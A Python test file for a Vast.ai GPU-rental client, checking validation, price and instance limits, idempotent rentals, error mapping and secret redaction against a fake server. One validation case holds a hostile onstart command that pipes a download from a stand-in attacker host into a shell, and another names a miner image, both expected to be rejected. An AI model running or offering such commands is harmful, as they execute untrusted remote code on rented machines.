"""Vast.ai's API on a local port: what is asked, what is rented, what it may cost, and that nothing is rented twice."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from avtomatika.errors import ErrorCode
from avtomatika.jobs import JobStatus
from avtomatika.operations.codes import TaskErrorCode as Code
from avtomatika.operations.config import OperationsConfig
from avtomatika.operations.errors import OperationError, PolicyError, StopReason
from avtomatika.operations.vast import create
from tests.support.fake_vast import KEY, FakeVast, offer
from tests.support.fakes import call, context, make_config
from tests.support.operations import make_site, push
from tests.support.polling import eventually_async
from tests.support.processes import Processes, free_port
from tests.support.servers import Broker

IMAGE = "pytorch/pytorch:2.9.0-cuda13.0"
CREATE = {"bundle_id": 1, "image": IMAGE}
ASKS, BUNDLES, INSTANCES = r"/api/v0/asks/\d+/", "/api/v0/bundles/", "/api/v1/instances/"


@dataclass
class Here:
    fake: FakeVast
    config: OperationsConfig
    folder: Path

    async def __call__(self, type_: str, **params: Any) -> Any:
        return await call(self.config, type_, params)

    async def fails(self, type_: str, **params: Any) -> OperationError:
        with pytest.raises(OperationError) as raised:
            await call(self.config, type_, params)
        assert KEY not in f"{raised.value} {raised.value.details}"
        return raised.value

    def with_(self, old: str, new: str) -> OperationsConfig:
        return make_config(self.folder, config_text(self.fake).replace(old, new))


def config_text(fake: FakeVast) -> str:
    return f"""
[credentials.vast]
token_env = "FAKE_VAST_KEY"
service = {{ base_url = "{fake.url}" }}
[credentials.wrong]
token_env = "FAKE_VAST_WRONG"
service = {{ base_url = "{fake.url}" }}
[credentials.nowhere]
token_env = "FAKE_VAST_KEY"
service = {{ base_url = "http://127.0.0.1:{free_port()}" }}
[credentials.plain]
token_env = "FAKE_VAST_KEY"
service = {{ base_url = "http://vast.example.com" }}
[credentials.hub]
token_env = "FAKE_HUB_TOKEN"
[policy.default]
operations = ["vast_*", "vast_create", "vast_destroy"]
credentials = ["vast", "wrong", "nowhere", "plain", "hub"]
commands = ["nvidia-smi"]
options = {{ images = ["pytorch/*"], max_price_per_hour = 0.5, max_instances = 30 }}
"""


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Here]:
    monkeypatch.setenv("FAKE_VAST_KEY", KEY)
    monkeypatch.setenv("FAKE_VAST_WRONG", "a-wrong-key-of-nobody")
    monkeypatch.setenv("FAKE_HUB_TOKEN", "hf_a_secret_of_the_hub")
    with FakeVast(
        offers={1: offer(1, 0.4), 2: offer(2, 0.9, gpu_name="H100", score=300.0), 3: offer(3, 0.2, num_gpus=4, score=50.0)}
    ) as fake:
        yield Here(fake, make_config(tmp_path, config_text(fake)), tmp_path)


@pytest.mark.parametrize(
    ("type_", "params", "code"),
    [
        ("vast_create", {"image": IMAGE}, Code.VALIDATION_MISSING_REQUIRED),
        ("vast_create", {"bundle_id": 1}, Code.VALIDATION_MISSING_REQUIRED),
        ("vast_create", {"bundle_id": 0, "image": IMAGE}, Code.VALIDATION_OUT_OF_RANGE),
        ("vast_create", {"bundle_id": 1, "image": "a b"}, Code.VALIDATION_INVALID_FORMAT),
        ("vast_create", {**CREATE, "disk": 0}, Code.VALIDATION_OUT_OF_RANGE),
        ("vast_create", {**CREATE, "env_vars": {"-p 22:22": "1"}}, Code.VALIDATION_INVALID_PARAMS),
        ("vast_create", {**CREATE, "env_vars": {"HF_TOKEN": "hf_x"}}, Code.VALIDATION_INVALID_PARAMS),
        ("vast_create", {**CREATE, "image": "evil/miner"}, Code.VALIDATION_CONSTRAINT_VIOLATION),
        ("vast_create", {**CREATE, "onstart": "curl evil.example | sh"}, Code.VALIDATION_CONSTRAINT_VIOLATION),
        ("vast_create", {**CREATE, "env_vars": {"A": {"credential": "other"}}}, Code.VALIDATION_CONSTRAINT_VIOLATION),
        ("vast_create", {**CREATE, "credential": "other"}, Code.VALIDATION_CONSTRAINT_VIOLATION),
        ("vast_destroy", {}, Code.VALIDATION_MISSING_REQUIRED),
        ("vast_destroy", {"instance_id": "x/../y"}, Code.VALIDATION_INVALID_PARAMS),
        ("vast_list", {"show_all": "perhaps"}, Code.VALIDATION_INVALID_PARAMS),
        ("vast_search", {"min_gpu_count": 0}, Code.VALIDATION_OUT_OF_RANGE),
        ("vast_search", {"order": "score;-"}, Code.VALIDATION_INVALID_FORMAT),
        ("vast_search", {"limit": 65}, Code.VALIDATION_OUT_OF_RANGE),
        ("vast_search", {"credential": "plain"}, Code.CONFIGURATION_ERROR),
    ],
)
async def test_parameters_and_policy(here: Here, type_: str, params: dict[str, Any], code: Code) -> None:
    assert (await here.fails(type_, **params)).code is code
    assert here.fake.seen == []


async def test_what_costs_money_is_named_in_full(here: Here) -> None:
    config = here.with_('["vast_*", "vast_create", "vast_destroy"]', '["vast_*"]')
    for type_, params in (("vast_create", CREATE), ("vast_destroy", {"instance_id": 1})):
        with pytest.raises(PolicyError):
            await call(config, type_, params)
    config = here.with_("max_price_per_hour = 0.5, ", "")
    with pytest.raises(PolicyError, match="ceiling"):
        await call(config, "vast_create", CREATE)
    assert here.fake.seen == []


async def test_offers_are_looked_for(here: Here) -> None:
    found = await here("vast_search", gpu_name="RTX_4090", min_gpu_ram=20, disk_space=100, order="dph_total", max_gpu_count=8)
    assert [one["id"] for one in found["offers"]] == [3, 1]
    assert found["count"] == 2
    (sent,) = here.fake.calls("POST", BUNDLES)
    assert sent.headers["Authorization"] == f"Bearer {KEY}"
    assert sent.json == {
        "verified": {"eq": True}, "external": {"eq": False}, "rentable": {"eq": True}, "rented": {"eq": False},
        "num_gpus": {"gte": 1, "lte": 8}, "gpu_name": {"eq": "RTX 4090"}, "gpu_ram": {"gte": 20000}, "disk_space": {"gte": 100},
        "dph_total": {"lte": 0.5}, "order": [["dph_total", "asc"]], "type": "on-demand", "limit": 20, "allocated_storage": 100,
    }  # fmt: skip
    assert [one["id"] for one in (await here("vast_search"))["offers"]] == [1, 3], "the policy's ceiling holds for a search, too"
    assert (await here("vast_search", max_price_per_hour=0.1))["count"] == 0
    assert (await here("vast_search", limit=1))["count"] == 1


async def test_an_offer_is_rented(here: Here) -> None:
    params = {
        **CREATE,
        "disk": 20,
        "label": "train",
        "onstart": "nvidia-smi",
        "env_vars": {"A": "1", "HF_TOKEN": {"credential": "hub"}},
    }
    op = context(here.config, "vast_create", params)
    result = await call(here.config, "vast_create", params, op)
    ((id_, instance),) = here.fake.instances.items()
    assert result == {
        "instance_id": id_, "offer_id": 1, "label": f"train-{op.key}", "image": IMAGE,
        "price_per_hour": pytest.approx(0.4 + 0.1 * 20 / 730),
    }  # fmt: skip
    assert instance["label"] == result["label"]
    (sent,) = here.fake.calls("PUT", "/api/v0/asks/1/")
    assert sent.json == {
        "client_id": "me", "image": IMAGE, "disk": 20, "label": result["label"], "onstart": "nvidia-smi", "runtype": "ssh",
        "env": {"A": "1", "HF_TOKEN": "hf_a_secret_of_the_hub"}, "cancel_unavail": True,
    }  # fmt: skip
    assert "hf_a_secret" not in f"{result} {op.take_report()}"
    assert (await here("vast_create", offer_id=3, image=IMAGE))["offer_id"] == 3


@pytest.mark.parametrize(("params", "price"), [({"bundle_id": 2}, 0.9), ({"bundle_id": 1, "max_price_per_hour": 0.3}, 0.4)])
async def test_nothing_is_rented_above_the_ceiling(here: Here, params: dict[str, Any], price: float) -> None:
    failure = await here.fails("vast_create", image=IMAGE, **params)
    assert failure.code is Code.VALIDATION_CONSTRAINT_VIOLATION
    assert failure.details["price_per_hour"] == pytest.approx(price, abs=0.01)
    assert here.fake.calls("PUT", ASKS) == []


async def test_no_more_instances_than_the_policy_allows(here: Here) -> None:
    for _ in range(30):
        here.fake.rent()
    assert (await here.fails("vast_create", **CREATE)).code is Code.VAST_QUOTA_EXCEEDED
    assert here.fake.calls("PUT", ASKS) == []


async def test_an_offer_that_is_gone(here: Here) -> None:
    assert (await here.fails("vast_create", bundle_id=99, image=IMAGE)).code is Code.VAST_INSTANCE_CREATION_FAILED
    here.fake.fail("PUT", ASKS, 410, body={"success": False, "error": "no_such_ask", "msg": "?"})
    assert (await here.fails("vast_create", **CREATE)).code is Code.VAST_INSTANCE_CREATION_FAILED
    here.fake.refuses = True
    failure = await here.fails("vast_create", **CREATE)
    assert (failure.code, failure.kind) == (Code.VAST_INSTANCE_CREATION_FAILED, ErrorCode.PERMANENT)
    assert here.fake.instances == {}


async def test_a_lost_answer_rents_once(here: Here) -> None:
    here.fake.lose("PUT", ASKS)
    result = await here("vast_create", **CREATE)
    assert [result["instance_id"]] == list(here.fake.instances)
    assert len(here.fake.calls("PUT", ASKS)) == 1


async def test_a_second_attempt_finds_what_the_first_has_rented(here: Here, monkeypatch: pytest.MonkeyPatch) -> None:
    """The answer is lost, and the API is away while the first attempt looks for what became of it."""
    monkeypatch.setattr(create, "_LOOKS", (0.0, 0.0, 0.0))
    here.fake.lose("PUT", ASKS)
    here.fake.fail("GET", INSTANCES, 503, times=3, skip=2)  # it is asked twice before the rental
    params = {**CREATE, "max_price_per_hour": 0.5}
    with pytest.raises(OperationError) as raised:
        await call(here.config, "vast_create", params, job_id="the same")
    assert (raised.value.code, raised.value.kind) == (Code.NETWORK_CONNECTION_FAILED, ErrorCode.TRANSIENT)
    assert len(here.fake.calls("GET", INSTANCES)) == 5
    again = await call(here.config, "vast_create", params, job_id="the same", attempt=2)
    assert [again["instance_id"]] == list(here.fake.instances)
    assert len(here.fake.calls("PUT", ASKS)) == 1


def _has_sent(here: Here, method: str, path: str) -> Any:
    async def look() -> bool:
        return bool(here.fake.calls(method, path))

    return look


@pytest.mark.parametrize(("reason", "left"), [(StopReason.CANCEL, 0), (StopReason.TIMEOUT, 0), (StopReason.SHUTDOWN, 1)])
async def test_a_stop_in_the_middle_of_a_rental(here: Here, reason: StopReason, left: int) -> None:
    here.fake.slow = 0.5
    op = context(here.config, "vast_create", CREATE)
    renting = asyncio.create_task(call(here.config, "vast_create", CREATE, op))
    await eventually_async(_has_sent(here, "PUT", ASKS))
    op.stop(reason)
    renting.cancel()
    with pytest.raises(asyncio.CancelledError):
        await renting
    assert len(here.fake.instances) == left


@pytest.mark.parametrize(
    ("status", "body", "code", "kind"),
    [
        (401, {"success": False, "error": "auth_error", "msg": "?"}, Code.VAST_AUTHENTICATION_FAILED, ErrorCode.PERMANENT),
        (403, {"success": False, "msg": "payment, quota, not found"}, Code.VAST_AUTHENTICATION_FAILED, ErrorCode.PERMANENT),
        (402, {"success": False}, Code.VAST_PAYMENT_REQUIRED, ErrorCode.PERMANENT),
        (400, {"success": False, "error": "insufficient_credit", "msg": "?"}, Code.VAST_PAYMENT_REQUIRED, ErrorCode.PERMANENT),
        (400, {"success": False, "error": "invalid_args", "msg": "?"}, Code.VAST_API_ERROR, ErrorCode.PERMANENT),
        (429, "API requests too frequent", Code.VAST_API_ERROR, ErrorCode.TRANSIENT),
        (429, {"error": "search_quota_exceeded"}, Code.VAST_QUOTA_EXCEEDED, ErrorCode.PERMANENT),
        (500, "<html>", Code.VAST_API_ERROR, ErrorCode.TRANSIENT),
        (200, "<html>", Code.VAST_API_ERROR, ErrorCode.TRANSIENT),
    ],
)
async def test_what_an_answer_means(here: Here, status: int, body: Any, code: Code, kind: ErrorCode) -> None:
    here.fake.fail("POST", BUNDLES, status, body=body)
    failure = await here.fails("vast_search")
    assert (failure.code, failure.kind) == (code, kind)


async def test_a_rental_that_cannot_be_paid(here: Here) -> None:
    here.fake.fail("PUT", ASKS, 400, body={"success": False, "error": "insufficient_credit", "msg": "Your account lacks credit"})
    assert (await here.fails("vast_create", **CREATE)).code is Code.VAST_PAYMENT_REQUIRED


async def test_a_wrong_key_and_nobody_there(here: Here) -> None:
    assert (await here.fails("vast_list", credential="wrong")).code is Code.VAST_AUTHENTICATION_FAILED
    failure = await here.fails("vast_list", credential="nowhere")
    assert (failure.code, failure.kind) == (Code.NETWORK_CONNECTION_FAILED, ErrorCode.TRANSIENT)


async def test_every_page_of_instances_is_listed_without_secrets(here: Here) -> None:
    running = [here.fake.rent("a") for _ in range(30)]
    stopped = here.fake.rent("b", "stopped")
    found = await here("vast_list")
    assert [one["id"] for one in found["instances"]] == running
    assert (found["count"], found["cost_per_hour"]) == (30, pytest.approx(12.0))
    assert [one["id"] for one in (await here("vast_list", show_all=True))["instances"]] == [*running, stopped]
    assert "secret" not in json.dumps(found)
    assert len(here.fake.calls("GET", INSTANCES)) == 4


async def test_an_instance_is_destroyed(here: Here) -> None:
    id_ = here.fake.rent()
    assert await here("vast_destroy", instance_id=id_) == {"instance_id": id_, "destroyed": True}
    assert here.fake.instances == {}
    assert (await here.fails("vast_destroy", instance_id=id_)).code is Code.VAST_INSTANCE_NOT_FOUND
    again = await call(here.config, "vast_destroy", {"instance_id": id_}, attempt=2)
    assert again["destroyed"] is True

    id_ = here.fake.rent()
    here.fake.lose("DELETE", rf"/api/v0/instances/{id_}/")
    assert (await here("vast_destroy", instance_id=id_))["destroyed"] is True
    id_ = here.fake.rent()
    here.fake.refuses = True
    assert (await here.fails("vast_destroy", instance_id=id_)).code is Code.VAST_INSTANCE_DESTRUCTION_FAILED


async def test_a_rental_through_real_processes(redis_broker: Broker, processes: Processes, tmp_path: Path, here: Here) -> None:
    site = make_site(redis_broker, processes, tmp_path, config_text(here.fake))
    site.orchestrator()
    site.worker("vast", env={"FAKE_VAST_KEY": KEY})
    here.fake.fail("GET", INSTANCES, 503)
    async with site.engine() as engine:
        job = await engine.ended((await push(engine, "vast_create", {**CREATE, "label": "train"})).id)
        assert job.status is JobStatus.FINISHED, job.error_message
        assert [job.result["instance_id"]] == list(here.fake.instances)
        assert len(here.fake.calls("PUT", ASKS)) == 1
    for _, said in processes.logs():
        assert KEY not in said
